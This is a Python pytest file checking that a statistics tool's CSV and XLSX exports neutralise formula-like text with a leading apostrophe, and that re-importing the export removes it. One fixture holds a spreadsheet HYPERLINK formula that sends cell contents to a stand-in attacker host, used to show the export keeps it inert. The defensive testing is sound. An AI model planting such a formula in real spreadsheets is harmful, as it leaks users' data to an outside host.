"""Exports never hand a spreadsheet program a formula: text starting = + - @ gets an apostrophe (OWASP's
advice), numbers stay numbers, and importing the export takes exactly that apostrophe off again."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine, select

from intake import formulas
from storage.db import make_sessions
from storage.models import Statistic, Status
from tests import items
from tests.spreadsheets import counts, figure_row, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'


def exported_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.open(encoding="utf-8-sig")))


def test_formula_like_text_is_exported_guarded_and_imported_back_unchanged(
    run: object, engine: Engine, tmp_path: Path
) -> None:
    row = figure_row(
        1, value="-12", unit="percent", measure="-12% fall in referrals", source_title="@NSPCC annual report",
        notes="+3 more services were counted",
    )  # fmt: skip
    assert run("import", write_csv(tmp_path / "in.csv", [row])) == 0  # type: ignore[operator]
    first = tmp_path / "first.csv"
    assert run("export", "-o", first) == 0  # type: ignore[operator]
    (exported,) = exported_rows(first)
    assert exported["value"] == "-12"  # a number, left as a number
    assert exported["measure"] == "'-12% fall in referrals"
    assert exported["source_title"] == "'@NSPCC annual report"
    assert exported["notes"] == "'+3 more services were counted"
    before = counts(engine)
    assert run("import", first) == 0  # type: ignore[operator]
    assert counts(engine) == before  # the same figure: the apostrophe was the export's, not the text's
    with make_sessions(engine)() as session:
        assert session.scalars(select(Statistic.measure).where(Statistic.value == -12)).one() == (
            "-12% fall in referrals"
        )
    second = tmp_path / "second.csv"
    assert run("export", "-o", second) == 0  # type: ignore[operator]
    assert first.read_bytes() == second.read_bytes()


@pytest.fixture
def stored_formula(engine: Engine, home_id: int) -> None:
    """A source title stored before ingestion checked titles: an article's <title> was this formula."""
    with make_sessions(engine)() as session:
        source = items.source(
            session, home_id, title=HYPERLINK, publisher="Example News", url="https://example.org/a"
        )
        items.statistic(
            session, home_id, value=5, unit="count", value_text="5", measure="children helped",
            period_start=None, period_end=None, geography="UK", evidence="", notes="", source=source,
            status=Status.PUBLISHED, created_by="U0TEST",
        )  # fmt: skip
        session.commit()


def test_a_stored_formula_is_exported_as_inert_text_in_csv(
    run: object, stored_formula: None, tmp_path: Path
) -> None:
    out = tmp_path / "out.csv"
    assert run("export", "children", "-o", out) == 0  # type: ignore[operator]
    titles = [row["source_title"] for row in exported_rows(out)]
    assert "'" + HYPERLINK in titles
    assert not any(title.startswith("=") for title in titles)


def test_a_stored_formula_is_a_text_cell_in_xlsx(run: object, stored_formula: None, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert run("export", "children", "--xlsx", "-o", out) == 0  # type: ignore[operator]
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    titles = [row[header.index("source_title")] for row in sheet.iter_rows(min_row=2)]
    assert "'" + HYPERLINK in [cell.value for cell in titles]
    assert {cell.data_type for cell in titles if cell.value} <= {"s", "inlineStr"}  # text; a formula is "f"


@pytest.mark.parametrize(
    ("text", "exported"),
    [
        ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-5 children", "'-5 children"), ("@nspcc", "'@nspcc"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("'quoted'", "'quoted'"), ("", ""),
    ],
)  # fmt: skip
def test_the_guard_is_taken_off_exactly(text: str, exported: str) -> None:
    assert formulas.guard(text) == exported
    assert formulas.unguard(exported) == text
